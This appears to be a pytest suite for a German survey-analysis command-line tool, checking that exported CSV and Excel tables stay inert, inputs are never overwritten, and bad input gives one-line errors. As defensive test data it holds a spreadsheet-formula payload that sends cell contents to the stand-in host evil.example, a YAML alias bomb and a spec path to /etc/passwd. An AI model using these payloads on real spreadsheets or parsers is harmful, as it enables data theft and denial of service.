"""Issue 18, "safe files in, safe files out": the reproducers, run through the command line.

Every sub-command's documented table outputs work as .csv and .xlsx, respondent text never
becomes a formula, outputs never destroy inputs, and bad input gives one line, not a trace.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from esslingen_lab.cli import main
from esslingen_lab.surveys import load_survey, read_table, validate_survey
from esslingen_lab.surveys.spec import ALLOW_OUTSIDE_ENV

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Details")'
ANSWERS = ["Termine beim Bürgeramt online buchen", "WLAN am Bahnhof fehlt", EVIL,
           "Formulare digital ausfüllen", "Bürgeramt Termine zu knapp", "+49 711 3512 anrufen",
           "@stadt Bahnhof WLAN", "Digitale Formulare sparen Wege", "-Termine- online",
           "WLAN in Bussen"] * 3


def run(*args, expect=0):
    result = CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)
    if expect is not None:
        assert result.exit_code == expect, result.output
    if result.exit_code:
        assert "Traceback" not in result.output
        assert len(result.output.strip().splitlines()) <= 3, result.output  # usage + error
    return result


def one_line_error(*args):
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exit_code != 0, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), \
        repr(result.exception)
    assert "Traceback" not in result.output
    assert result.output.strip().splitlines()[-1].startswith(("Fehler: ", "Error: ")), \
        result.output
    return result.output


def no_formulas(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    cells = [c for s in book.worksheets for r in s.iter_rows() for c in r]
    assert cells and all(c.data_type != "f" for c in cells)


def survey(folder: Path, *, extra="", rows=None, data="daten.csv") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    rows = rows or [{"id": i, "text": t, "s1": 1 + i % 5, "gruppe": ["A", "B"][i % 2]}
                    for i, t in enumerate(ANSWERS)]
    if data.endswith(".csv"):
        pd.DataFrame(rows).to_csv(folder / data, index=False)  # an input, as users have it
    spec = (f"name: t\nid_column: id\nfiles:\n  - path: {data}\nquestions:\n  text: Was?\n"
            "likert_scales:\n  z5: {min: 1, max: 5}\nlikert:\n"
            "  s1: {dimension: strategie, scale: z5}\ngroups: [gruppe]\n" + extra)
    (folder / "survey.yml").write_text(spec, encoding="utf-8")
    return folder / "survey.yml"


@pytest.fixture()
def answers_csv(tmp_path):
    path = tmp_path / "antworten.csv"
    pd.DataFrame({"id": range(len(ANSWERS)), "text": ANSWERS,
                  "code": (["termine", "wlan", "formulare"] * 10)}).to_csv(path, index=False)
    return path


# ----------------------------------------------------------------- item 1 + 8: every output
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_every_table_output_works_in_csv_and_xlsx(tmp_path, answers_csv, suffix):
    out = tmp_path / "out"
    out.mkdir()
    run("redact", answers_csv, "--text-column", "text", "-o", out / f"red{suffix}")
    run("themes", answers_csv, "--text-column", "text", "--n-themes", "3",
        "-o", out / f"th{suffix}", "--themes-output", out / f"list{suffix}")
    run("validate", survey(tmp_path / "s"), "--report", out / f"cases{suffix}",
        "--no-overview")
    run("classify", "train", answers_csv, "--model", out / "m.joblib", "--no-curve",
        "--cv", "2")
    run("classify", "predict", out / "m.joblib", answers_csv, "--output", out / f"p{suffix}")
    pool = tmp_path / "pool.csv"
    pd.DataFrame({"id": range(100, 100 + len(ANSWERS)), "text": ANSWERS}).to_csv(pool)
    run("classify", "suggest", answers_csv, pool, "--n", "3", "--output", out / f"sug{suffix}")
    redacted = read_table(out / f"red{suffix}")
    assert redacted["text"].tolist()[2].startswith("=HYPERLINK(")  # text, URL redacted
    assert len(redacted) == len(ANSWERS)
    assert len(read_table(out / f"th{suffix}")) == len(ANSWERS)
    assert read_table(out / f"p{suffix}")["text"].tolist() == ANSWERS
    for path in out.iterdir():
        if path.suffix == ".xlsx":
            no_formulas(path)


def test_coding_export_and_agreement_read_their_own_exports_back(tmp_path):
    from esslingen_lab.coding import CodingStore

    store_path = tmp_path / "codings.sqlite"
    with CodingStore(store_path) as store:
        store.add_answers([f"a{i}" for i in range(6)], ANSWERS[:6])
        for i in range(6):
            store.save_coding("anna", f"a{i}", ["termine" if i % 2 else "wlan"], memo=EVIL)
            store.save_coding("=ben", f"a{i}", ["termine" if i < 3 else "wlan"], memo="@x")
    before = store_path.read_bytes()
    for suffix in (".csv", ".xlsx"):
        export = tmp_path / f"codings{suffix}"
        run("coding", "export", store_path, "--output", export)
        run("coding", "export", store_path, "--output", tmp_path / f"coded{suffix}", "--coded")
        back = read_table(export)
        assert set(back["coder"]) == {"anna", "=ben"} and set(back["memo"]) == {EVIL, "@x"}
        if suffix == ".xlsx":
            no_formulas(export)
        from_store = run("coding", "agreement", store_path, "--bootstrap", "0").output
        from_export = run("coding", "agreement", export, "--bootstrap", "0").output
        assert "anna" in from_export and "=ben" in from_export
        assert from_store == from_export  # the export is read back losslessly
    run("coding", "agreement", store_path, "--bootstrap", "0", "--output", tmp_path / "agr")
    assert (tmp_path / "agr" / "summary.csv").exists()
    assert store_path.read_bytes() == before  # read-only commands do not write their input


def test_workshop_export_writes_inert_tables_and_refuses_foreign_folders(tmp_path):
    from esslingen_lab.workshop.store import WorkshopStore

    store = WorkshopStore.create(tmp_path / "ws" / "w.db", "w")
    store.create_round(EVIL, [{"title": "=1+1"}, {"title": "@SUM(A1)"}], actor="-moderation")
    out = tmp_path / "export"
    run("workshop", "export", "w", "--workshops-dir", tmp_path / "ws", "--output", out)
    no_formulas(out / "workshop.xlsx")
    assert read_table(out / "workshop.xlsx", "rounds")["title"].tolist() == [EVIL]
    assert read_table(out / "items.csv")["title"].tolist() == ["=1+1", "@SUM(A1)"]
    run("workshop", "export", "w", "--workshops-dir", tmp_path / "ws", "--output", out)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "items.csv").write_text("meine Liste\n", encoding="utf-8")
    assert "nicht leer" in one_line_error("workshop", "export", "w", "--workshops-dir",
                                         tmp_path / "ws", "--output", mine)
    assert (mine / "items.csv").read_text(encoding="utf-8") == "meine Liste\n"


def test_maturity_workbook_is_inert_and_an_earlier_run_leaves_no_stale_charts(tmp_path):
    rows = [{"id": i, "text": "x", "s1": 1 + i % 5, "gruppe": EVIL if i % 2 else "=B"}
            for i in range(24)]
    spec = survey(tmp_path / "s", rows=rows)
    out = tmp_path / "reife"
    run("maturity", spec, "--output", out, "--n-boot", "100")
    no_formulas(out / "reifegrad.xlsx")
    assert any(p.name.startswith("radar_gruppe") for p in (out / "charts").iterdir())
    run("maturity", spec, "--output", out, "--n-boot", "100", "--by", "nothing_here",
        expect=None)
    run("maturity", spec, "--output", out, "--n-boot", "100", "--no-charts")
    assert not (out / "charts").exists()  # the first run's charts are gone, not stale


def test_report_workbook_keeps_quotes_as_text(tmp_path):
    from esslingen_lab.reports.publish import publish_table
    from esslingen_lab.reports.run import collect_published, write_workbook

    publish_table(pd.DataFrame({"zitat": [EVIL, "-2+3", "ok"], "n": [1, 2, 3]}), "zitate",
                  tmp_path / "results" / "themes", show=False)
    path = write_workbook(collect_published(tmp_path, ["themes"]), tmp_path / "tables.xlsx")
    no_formulas(path)
    sheet = read_table(path, 1)
    assert sheet["zitat"].tolist() == [EVIL, "-2+3", "ok"]
    assert openpyxl.load_workbook(path).worksheets[1]["B2"].value == 1  # numbers stay numbers


# ------------------------------------------------------------------- item 2: sheets
def test_two_sheets_of_one_workbook_are_accounted_separately(tmp_path):
    folder = tmp_path / "s"
    folder.mkdir()
    with pd.ExcelWriter(folder / "daten.xlsx") as xl:  # an input, as users have it
        pd.DataFrame({"id": [1, 2, 3], "text": ["a", "b", "c"], "s1": [1, 9, 2],
                      "gruppe": "A"}).to_excel(xl, sheet_name="online", index=False)
        pd.DataFrame({"id": [4, 5, 6], "text": ["d", "e", "f"], "s1": [1, 2, 3],
                      "gruppe": "B"}).to_excel(xl, sheet_name="papier", index=False)
    spec = survey(folder, data="daten.xlsx")
    text = spec.read_text(encoding="utf-8").replace(
        "  - path: daten.xlsx\n",
        "  - {path: daten.xlsx, sheet: online}\n  - {path: daten.xlsx, sheet: papier}\n")
    spec.write_text(text, encoding="utf-8")
    checked = validate_survey(spec)
    assert checked.quality.rows_used == 5 and checked.quality.rows_excluded == 1
    assert load_survey(spec, redact=False).responses["respondent_id"].tolist() == \
        ["1", "3", "4", "5", "6"]
    assert set(checked.quality.cases["file"]) == {"daten.xlsx [online]"}


def test_no_usable_rows_names_the_spec_file(tmp_path):
    spec = survey(tmp_path / "s", rows=[{"id": 1, "text": "", "s1": 9, "gruppe": "A"}])
    renamed = spec.with_name("umfrage_2026.yml")
    spec.rename(renamed)
    with pytest.raises(Exception, match="umfrage_2026.yml"):
        load_survey(renamed)


# ------------------------------------------------------------- item 3: mixed encodings
def test_mixed_utf8_and_cp1252_lines_are_repaired_with_a_warning(tmp_path):
    path = tmp_path / "gemischt.csv"
    path.write_bytes("id,text\n1,Herr Müller wohnt Straße Grünweg 5\n".encode()
                     + "2,Frau Schäfer aus Weißach\n".encode("cp1252"))
    with pytest.warns(UserWarning, match="lines 3"):
        table = read_table(path)
    assert table["text"].tolist() == ["Herr Müller wohnt Straße Grünweg 5",
                                      "Frau Schäfer aus Weißach"]
    excel = tmp_path / "bom.csv"  # "CSV UTF-8" from Excel, a cp1252 line appended later
    excel.write_bytes("\ufeffid,text\n1,Müller\n".encode() + "2,Schäfer\n".encode("cp1252"))
    with pytest.warns(UserWarning, match="lines 3"):
        assert read_table(excel).to_dict("list") == {"id": ["1", "2"],
                                                     "text": ["Müller", "Schäfer"]}
    out = tmp_path / "red.csv"
    run("redact", path, "--text-column", "text", "-o", out)
    assert "Ã" not in out.read_text(encoding="utf-8") and "[NAME]" in out.read_text("utf-8")


# ------------------------------------------------------------------- item 4: lone CR
def test_redact_quotes_a_lone_cr(tmp_path):
    path = tmp_path / "in.csv"
    texts = [f"Antwort {i}\rzweite Zeile" if i % 12 == 0 else f"Antwort {i}" for i in range(60)]
    # quoted as a spreadsheet writes it (pandas alone would leave the CR unquoted)
    pd.DataFrame({"id": range(60), "text": texts}).to_csv(path, index=False, quoting=1)
    run("redact", path, "--text-column", "text", "-o", tmp_path / "out.csv")
    assert len(pd.read_csv(tmp_path / "out.csv")) == 60
    assert read_table(tmp_path / "out.csv")["text"].tolist() == texts


# ------------------------------------------------------- item 5: outputs destroy inputs
def test_outputs_never_replace_inputs(tmp_path, answers_csv):
    before = answers_csv.read_bytes()
    assert "Eingabe überschreiben" in one_line_error(
        "themes", answers_csv, "--text-column", "text", "--n-themes", "2", "-o", answers_csv)
    assert "zweimal als Ausgabe" in one_line_error(
        "themes", answers_csv, "--text-column", "text", "--n-themes", "2",
        "-o", tmp_path / "a.csv", "--themes-output", tmp_path / "a.csv")
    run("classify", "train", answers_csv, "--model", tmp_path / "m.joblib", "--no-curve",
        "--cv", "2")
    assert "Eingabe überschreiben" in one_line_error(
        "classify", "predict", tmp_path / "m.joblib", answers_csv, "--output", answers_csv)
    assert "Eingabe überschreiben" in one_line_error(
        "redact", answers_csv, "--text-column", "text", "-o", answers_csv)
    assert answers_csv.read_bytes() == before
    spec = survey(tmp_path / "s")
    assert "Eingabe überschreiben" in one_line_error(
        "validate", spec, "--report", tmp_path / "s" / "daten.csv")


def test_an_existing_output_keeps_its_mode(tmp_path, answers_csv):
    out = tmp_path / "geteilt.csv"
    out.write_text("alt\n", encoding="utf-8")
    out.chmod(0o664)
    run("redact", answers_csv, "--text-column", "text", "-o", out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o664


def test_read_only_commands_do_not_write_into_a_workshop_db_or_an_empty_file(tmp_path):
    from esslingen_lab.workshop.store import WorkshopStore

    db = tmp_path / "w.db"
    WorkshopStore.create(db, "w")
    empty = tmp_path / "leer.sqlite"
    empty.touch()
    for path in (db, empty):
        before = path.read_bytes()
        assert "keine Kodier-Datei" in one_line_error("coding", "export", path, "--output",
                                                      tmp_path / "x.csv")
        assert "keine Kodier-Datei" in one_line_error("coding", "agreement", path)
        assert path.read_bytes() == before
    assert not (tmp_path / "x.csv").exists()


# ---------------------------------------------------------------- item 6: silently wrong
def test_maturity_scores_items_under_the_spec_dimension(tmp_path):
    rows = [{"id": i, "text": "x", "strat_b1": 5, "daten_b1": 1 + i % 2, "gruppe": "A"}
            for i in range(30)]
    folder = tmp_path / "s"
    spec = survey(folder, rows=rows)
    spec.write_text(spec.read_text(encoding="utf-8").replace(
        "  s1: {dimension: strategie, scale: z5}\n",
        "  strat_b1: {dimension: daten, scale: z5}\n  daten_b1: {dimension: daten, scale: z5}\n"),
        encoding="utf-8")
    from esslingen_lab.maturity import MaturityReport

    report = MaturityReport(n_boot=100, random_state=0).fit([load_survey(spec, redact=False)])
    scores = report.scores_.set_index("dimension")["score"]
    assert "strategie" not in scores.dropna().index
    assert scores["daten"] == pytest.approx((100 + (0 + 25) / 2) / 2)  # both items in daten


def test_duplicate_yaml_keys_and_a_missing_framework_are_refused(tmp_path):
    spec = survey(tmp_path / "s")
    text = spec.read_text(encoding="utf-8")
    spec.write_text(text.replace("likert:\n", "likert:\n  s1: {dimension: x, scale: z5, "
                                 "reverse: true}\n"), encoding="utf-8")
    assert "steht zweimal" in one_line_error("validate", spec)
    spec.write_text(text + "framework: fehlt.yml\n", encoding="utf-8")
    assert "fehlt.yml" in one_line_error("validate", spec)


def test_nan_labels_are_not_codes(tmp_path):
    path = tmp_path / "coded.csv"
    codes = ["termine", "wlan", "NaN", "nan", "NA", ""] * 5
    pd.DataFrame({"text": ANSWERS, "code": codes}).to_csv(path, index=False)
    result = run("classify", "train", path, "--model", tmp_path / "m.joblib", "--no-curve",
                 "--cv", "2")
    assert "2 Codes" in result.output and "20 Zeilen ohne Text oder Code" in result.output


def test_likert_with_a_decimal_comma_is_kept(tmp_path):
    rows = [{"id": 1, "text": "a", "s1": "3,5", "gruppe": "A"},
            {"id": 2, "text": "b", "s1": "4", "gruppe": "A"}]
    checked = load_survey(survey(tmp_path / "s", rows=rows), redact=False)
    assert checked.responses["s1"].tolist() == [3.5, 4.0]
    assert checked.quality.rows_excluded == 0


# ------------------------------------------------------------- item 7: one-line errors
def test_user_mistakes_give_one_line(tmp_path, answers_csv):
    two = tmp_path / "two.csv"
    pd.DataFrame({"text": ["Bürgeramt Termine online", "WLAN am Bahnhof"]}).to_csv(two)
    run("themes", two, "--text-column", "text", "--n-themes", "auto", "-o", tmp_path / "t.csv")
    spec = survey(tmp_path / "s")
    for seed in ("-1", str(2**64)):
        one_line_error("themes", answers_csv, "--text-column", "text", "--n-themes", "2",
                       "-o", tmp_path / "x.csv", "--seed", seed)
        one_line_error("classify", "train", answers_csv, "--model", tmp_path / "m.joblib",
                       "--seed", seed)
        one_line_error("maturity", spec, "--output", tmp_path / "m", "--seed", seed)
        one_line_error("coding", "agreement", answers_csv, "--seed", seed)
    huge = tmp_path / "huge.csv"
    huge.write_text("id,text\n1," + "x" * 1_000_000 + "\n2,a,b,c\n3,ok\n", encoding="utf-8")
    run("redact", huge, "--text-column", "text", "-o", tmp_path / "h.csv", expect=1)
    assert len(read_table(huge)) == 2
    assert "ist ein Ordner" in one_line_error("redact", answers_csv, "--text-column", "text",
                                              "-o", tmp_path)
    assert "Ordner existiert nicht" in one_line_error(
        "classify", "train", answers_csv, "--model", tmp_path / "fehlt" / "m.joblib")
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "kaputt.db").write_bytes(b"kein SQLite")
    (ws / "leer.db").touch()
    for name in ("kaputt", "leer"):
        assert "not a workshop file" in one_line_error(
            "workshop", "export", name, "--workshops-dir", ws, "--output", tmp_path / name)


# ------------------------------------------------------- items 10 + 11: untrusted specs
def test_data_outside_the_spec_folder_needs_allow_outside(tmp_path, monkeypatch):
    monkeypatch.delenv(ALLOW_OUTSIDE_ENV, raising=False)
    elsewhere = tmp_path / "elsewhere"
    survey(elsewhere)
    spec = tmp_path / "shared" / "survey.yml"
    spec.parent.mkdir()
    spec.write_text((elsewhere / "survey.yml").read_text(encoding="utf-8").replace(
        "path: daten.csv", "path: ../elsewhere/daten.csv"), encoding="utf-8")
    message = one_line_error("validate", spec)
    assert "outside" in message and "--allow-outside" in message
    run("validate", spec, "--allow-outside", "--no-overview")
    assert os.environ[ALLOW_OUTSIDE_ENV] == "1"



def test_services_table_outside_the_spec_folder_needs_allow_outside(tmp_path, monkeypatch):
    monkeypatch.delenv(ALLOW_OUTSIDE_ENV, raising=False)
    spec = survey(tmp_path / "s")
    spec.write_text(spec.read_text(encoding="utf-8") + "services: /etc/passwd\n",
                    encoding="utf-8")
    message = one_line_error("validate", spec)
    assert "services" in message and "--allow-outside" in message


def test_yaml_alias_bombs_and_lists_as_text_are_refused(tmp_path):
    spec = survey(tmp_path / "s")
    text = spec.read_text(encoding="utf-8")
    bomb = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    for level in "bcdefghi":
        previous = chr(ord(level) - 1)
        bomb += f"{level}: &{level} [{', '.join(['*' + previous] * 9)}]\n"
    spec.write_text(text + bomb + "wave: *i\n", encoding="utf-8")
    assert "Aliase" in one_line_error("validate", spec)
    spec.write_text(text + "wave: [1, 2]\n", encoding="utf-8")
    assert "wave" in one_line_error("validate", spec)


@pytest.mark.slow
def test_sigterm_during_a_report_marks_the_manifest_interrupted(tmp_path):
    import json
    import signal
    import subprocess
    import sys
    import time

    fixture = Path(__file__).parent / "fixtures" / "report_survey" / "survey.yml"
    run_dir = tmp_path / "run"
    process = subprocess.Popen([sys.executable, "-m", "esslingen_lab.cli", "report",
                                str(fixture), "--out", str(run_dir), "--quiet"],
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    manifest = run_dir / "manifest.json"
    try:
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline:  # wait until the first notebook runs
            if manifest.exists():
                try:
                    if json.loads(manifest.read_text(encoding="utf-8"))["notebooks"]:
                        break
                except ValueError:
                    pass  # being written
            time.sleep(0.2)
        process.send_signal(signal.SIGTERM)
        output, _ = process.communicate(timeout=120)
    finally:
        if process.poll() is None:
            process.kill()
    assert process.returncode != 0 and "Traceback" not in output
    assert json.loads(manifest.read_text(encoding="utf-8"))["status"] == "interrupted"
